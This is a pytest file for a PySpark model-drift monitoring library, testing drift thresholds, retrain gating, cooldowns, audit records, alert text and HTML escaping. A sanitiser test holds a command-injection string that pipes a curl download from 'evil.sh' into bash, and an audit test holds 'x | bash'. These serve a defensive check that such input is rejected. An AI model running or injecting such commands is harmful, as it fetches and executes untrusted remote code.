from datetime import datetime, timedelta

import brute
import numpy as np
import pytest
from pyspark.sql import functions as F

from driftline.config import DriftConfig
from driftline.functions.scalars import clean_reason, html_escape
from driftline.operators import decisions as g
from driftline.operators import history as h

GATE_CASES = [
    ("both conditions", 0.40, 0.12, True, None, True),
    ("at threshold", 0.25, 0.05, True, None, True),
    ("data drift only", 0.40, 0.00, True, None, False),
    ("perf drop only", 0.02, 0.12, True, None, False),
    ("neither", 0.02, 0.00, True, None, False),
    ("just below both", 0.249, 0.049, True, None, False),
    ("both but disabled", 0.40, 0.12, False, None, False),
    ("both but rate-limited", 0.40, 0.12, True, 10.0, False),
]


@pytest.mark.parametrize(
    "psi,drop,expected",
    [(0.05, 0.0, "ok"), (0.10, 0.0, "warn"), (0.25, 0.0, "alert"), (0.0, 0.05, "alert"), (0.0, None, "ok"), (0.0, 0.04, "ok")],
)
def test_status_at_exact_thresholds(spark, psi, drop, expected):
    row = spark.createDataFrame([(psi, drop)], "psi double, drop double")
    assert row.select(g.status(F.col("psi"), F.col("drop"), F.lit(0.0))).first()[0] == expected


def test_prediction_shift_alone_warns_and_alerts(spark):
    df = spark.createDataFrame([(0.05,), (0.1,), (0.25,)], "pred double")
    got = [r[0] for r in df.select(g.status(F.lit(0.0), F.lit(None).cast("double"), F.col("pred"))).collect()]
    assert got == ["ok", "warn", "alert"]


def test_gate_cases_and_confusion(spark):
    df = spark.createDataFrame(
        GATE_CASES, "name string, psi double, drop double, enabled boolean, since double, expected boolean"
    )
    message = g.gate_message(F.col("psi"), F.col("drop"), F.col("since"), DriftConfig(), F.col("enabled"))
    decided = df.withColumn("message", message).withColumn("allowed", F.col("message") == "OK")
    for r in decided.collect():
        assert r["allowed"] == r["expected"], r["name"]
    texts = {r["name"]: r["message"] for r in decided.collect()}
    assert texts["data drift only"].startswith("BLOCKED: f1_drop=0.0000 < 0.05")
    assert texts["both but rate-limited"] == "BLOCKED: last retrain was 0.2m ago (< 60m rate limit)."
    row = g.gate_confusion(decided, "allowed", "expected").first()
    assert (row["accuracy"], row["false_trigger_rate"], row["missed_trigger_rate"]) == (1.0, 0.0, 0.0)
    assert (row["tp"], row["tn"]) == (2, 6)


@pytest.mark.parametrize(
    "text,kept",
    [
        ("psi 0.31 > 0.25 (drift), f1 drop 12%", True),
        ("café naïve: ok", True),
        ("日本語 text", True),
        ("; curl evil.sh | bash; #", False),
        ("", False),
        (None, False),
        ("a`b", False),
        ("x" * 300, True),
    ],
)
def test_reason_sanitising(spark, text, kept):
    got = spark.createDataFrame([(text,)], "t string").select(clean_reason(F.col("t"))).first()[0]
    assert got == (text[:200] if kept else "drift thresholds breached")


def test_dispatch_decisions_and_audit(spark):
    df = spark.createDataFrame(
        [(1, "OK", True, True), (2, "OK", False, False), (3, "OK", False, True), (4, "BLOCKED: x", False, True)],
        "id int, message string, dry boolean, ready boolean",
    ).withColumn("at", F.lit(datetime(2024, 1, 1))).withColumn("asked", F.lit("x | bash"))
    decision = g.dispatch_decision(F.col("message"), F.col("dry"), F.col("ready"))
    rows = {r["id"]: r for r in g.audit_rows(df, "at", F.col("asked"), F.col("message"), decision).collect()}
    assert [rows[i]["decision"] for i in (1, 2, 3, 4)] == ["dry_run", "skipped", "dispatched", "blocked"]
    assert rows[4]["detail"] == "BLOCKED: x" and rows[1]["reason"] == "drift thresholds breached"


def test_cooldown_example(spark):
    base = datetime(2024, 1, 1)
    df = spark.createDataFrame([("m", base + timedelta(minutes=m)) for m in (0, 30, 61, 100, 130)], "model string, ts timestamp")
    got = g.retrain_cooldown(df, ["model"], "ts", 60).filter("dispatched").collect()
    assert sorted(int((r["ts"] - base).total_seconds() // 60) for r in got) == [0, 61, 130]


def test_cooldown_matches_the_greedy_walk_on_a_hot_model(spark):
    rng = np.random.default_rng(0)
    base = datetime(2024, 1, 1)
    seconds = {
        "hot": rng.integers(0, 40 * 3600, 1500).tolist(),
        "cold": rng.integers(0, 400 * 3600, 30).tolist(),
        "same": [5, 5, 5],
    }
    rows = [(k, base + timedelta(seconds=s)) for k, v in seconds.items() for s in v]
    df = spark.createDataFrame(rows, "model string, ts timestamp").repartition(6)
    decided = g.retrain_cooldown(df, ["model"], "ts", 60)
    assert decided.count() == len(rows)
    for key, times in seconds.items():
        got = {int((r["ts"] - base).total_seconds()) for r in decided.filter(f"model = '{key}' AND dispatched").collect()}
        assert got == brute.greedy(times, 3600)


def test_seconds_since_dispatch_ignores_blocked_rows(spark):
    rows = [("a", "dispatched", datetime(2024, 1, 1)), ("a", "blocked", datetime(2024, 1, 3)), ("b", "blocked", datetime(2024, 1, 3))]
    df = spark.createDataFrame(rows, "model string, decision string, ts timestamp")
    got = {r["model"]: r["seconds_since"] for r in h.seconds_since_dispatch(df, F.lit(datetime(2024, 1, 2)), ["model"]).collect()}
    assert got == {"a": 86400.0, "b": None}


def test_alert_message_and_filter(spark):
    df = spark.createDataFrame(
        [("alert", 0.4, 0.1, 0.2, ["a", "b"], 500, 400), ("warn", 0.15, None, None, [], 300, 0), ("ok", 0.0, 0.0, 0.0, [], 1, 1)],
        "status string, psi_max double, perf_drop double, prediction_drift_psi double, drifted_features array<string>, n_samples bigint, n_labeled bigint",
    )
    texts = [r["text"] for r in g.alert_feed(df).collect()]
    assert len(texts) == 2
    assert "*ALERT*" in texts[0] and "psi_max: 0.400" in texts[0] and "a, b" in texts[0] and "500 (labeled 400)" in texts[0]
    assert "drifted features: none" in texts[1] and "F1 drop: 0.000" in texts[1]


def test_threshold_table_and_config_agree(spark):
    good = (0.1, 0.25, 0.1, 0.25, 0.05, 100, 0)
    bad = {
        "psi_band": (0.3, 0.25, 0.1, 0.25, 0.05, 100, 0),
        "pred_band": (0.1, 0.25, 0.3, 0.25, 0.05, 100, 0),
        "perf_drop": (0.1, 0.25, 0.1, 0.25, 1.0, 100, 0),
        "min_samples": (0.1, 0.25, 0.1, 0.25, 0.05, 0, 0),
        "label_delay": (0.1, 0.25, 0.1, 0.25, 0.05, 100, -1),
    }
    names = ["psi_warn", "psi_alert", "pred_warn", "pred_alert", "perf_drop_alert", "min_samples", "label_delay_days"]
    DriftConfig(**dict(zip(names, good)))
    for values in bad.values():
        with pytest.raises(ValueError):
            DriftConfig(**dict(zip(names, values)))
    rows = [("good", *good)] + [(k, *v) for k, v in bad.items()]
    df = spark.createDataFrame(rows, "model string, " + ", ".join(f"{n} {'int' if n in names[5:] else 'double'}" for n in names))
    got = {r["model"]: r["violations"] for r in g.threshold_violations(df).collect()}
    assert got == {k: [k] for k in bad}


def test_html_escape(spark):
    df = spark.createDataFrame([("<a href=\"x\">&'",)], "t string")
    assert df.select(html_escape(F.col("t"))).first()[0] == "&lt;a href=&quot;x&quot;&gt;&amp;&#39;"


def test_skipped_requests_never_hold_others_back(spark):
    start = datetime(2024, 1, 1)
    rows = [(m, start + timedelta(minutes=at), 0.4, 0.1) for m in ("sent", "dry", "none") for at in (0, 10, 70, 80)]
    rows.append(("sent", start + timedelta(minutes=5), 0.4, 0.0))
    df = spark.createDataFrame(rows, "model string, ts timestamp, psi_max double, perf_drop double")
    got = g.decide_requests(
        df, "model", "ts", DriftConfig(), F.lit(True), F.col("model") == "dry", F.col("model") != "none"
    ).orderBy("model", "ts").collect()
    found = {}
    for r in got:
        found.setdefault(r["model"], []).append((r["decision"], r["message"]))
    limited = ("blocked", "BLOCKED: last retrain was 10.0m ago (< 60m rate limit).")
    assert found["none"] == [("skipped", "OK")] * 4
    assert found["dry"] == [("dry_run", "OK"), limited, ("dry_run", "OK"), limited]
    assert found["sent"][0] == ("dispatched", "OK") and found["sent"][1][0] == "blocked" and found["sent"][2] == limited
    assert found["sent"][3:] == [("dispatched", "OK"), limited]
